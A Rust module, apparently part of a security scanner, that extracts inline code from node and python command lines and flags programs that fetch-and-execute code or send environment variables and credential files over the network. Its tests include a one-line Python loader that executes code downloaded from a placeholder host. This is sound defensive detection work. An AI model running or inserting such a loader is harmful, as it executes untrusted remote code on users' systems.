//! Code that stands in a text: what `eval` is given, and what follows `-e` and `-c`.

use super::analyse::{Analysis, Detail, analyse_nested};
use super::capability::Capability;
use super::scan;
use super::token::Language;

/// Bytes of code in a text that are read.
const READ: usize = 65_536;
/// Bytes from which on a text may be a program.
const LEAST: usize = 24;

/// What code in a text does; nothing where it is too short or long.
pub(super) fn analyse(language: Language, code: &str) -> Option<Analysis> {
    if code.len() < LEAST || code.len() > READ {
        return None;
    }
    Some(analyse_nested(language, &scan::read(language, code)))
}

/// Whether a text is a program that runs what it fetches or decodes: one that is written to a file
/// to be started.
pub(super) fn is_loader(language: Language, text: &str) -> bool {
    let may_run = ["exec(", "eval(", "Function("]
        .iter()
        .any(|it| text.contains(it));
    let may_load =
        text.contains("import ") || text.contains("__import__") || text.contains("require(");
    if !may_run || !may_load || text.len() > READ / 2 {
        return false;
    }
    let runs =
        |it: &super::analyse::Found| matches!(it.detail, Detail::RunsFetched | Detail::RunsDecoded);
    analyse(language, text).is_some_and(|it| it.found.iter().any(runs))
}

/// Whether a text is a program of Python that sends what it should not: one that is added to another
/// file.
pub(super) fn is_thief(text: &str) -> bool {
    let is_program = text.contains("import ") && text.contains('(');
    if !is_program || text.len() > READ / 2 {
        return false;
    }
    let Some(analysis) = analyse(Language::Python, text) else {
        return false;
    };
    let does = |capability| {
        let mut found = analysis.found.iter();
        found.any(|it| it.capability == capability)
    };
    does(Capability::Network) && (does(Capability::Environment) || does(Capability::CredentialPath))
}

/// The code in a command line, and its language: `node -e "…"`, `python3 -c '…'`.
pub(super) fn of_command(command: &str) -> Option<(Language, &str)> {
    let mut from = 0;
    for word in command.split_whitespace() {
        let at = from + command.get(from..)?.find(word)?;
        from = at + word.len();
        let is_option = matches!(word, "-e" | "-c" | "--eval" | "-p" | "-pe");
        if !is_option {
            continue;
        }
        let before = command.get(..at)?;
        let program = before
            .split_whitespace()
            .rev()
            .find(|it| !it.starts_with('-'))?;
        let program = program
            .rsplit(['/', '\\', '"', '\''])
            .next()?
            .to_ascii_lowercase();
        let language = match program.trim_end_matches(".exe") {
            "node" | "bun" | "deno" | "nodejs" => Language::JavaScript,
            it if it.starts_with("python") || it == "py" => Language::Python,
            _ => continue,
        };
        let code = command.get(from..)?.trim();
        let quote = code.chars().next().filter(|it| matches!(it, '"' | '\''));
        let inner = quote.and_then(|quote| {
            let inner = code.get(1..)?;
            inner.rfind(quote).and_then(|end| inner.get(..end))
        });
        return Some((language, inner.unwrap_or(code)));
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn code_in_command_lines_is_found_and_that_of_shells_is_not() {
        for (command, code) in [
            ("node -e \"a('b')\"", Some((Language::JavaScript, "a('b')"))),
            (
                "cd x && /usr/bin/python3 -c 'a'",
                Some((Language::Python, "a")),
            ),
            ("sh -c 'node x.js'", None),
            ("node index.js -e", None),
            ("-e", None),
        ] {
            assert_eq!(of_command(command), code, "{command}");
        }
    }

    #[test]
    fn programs_that_load_others_are_told_from_code_about_them() {
        let loader = "from urllib.request import urlopen as u;exec(u('https://x.invalid').read())";
        assert!(is_loader(Language::Python, loader));
        assert!(!is_loader(
            Language::Python,
            "import x\n# exec(urlopen(y))\n"
        ));
    }
}
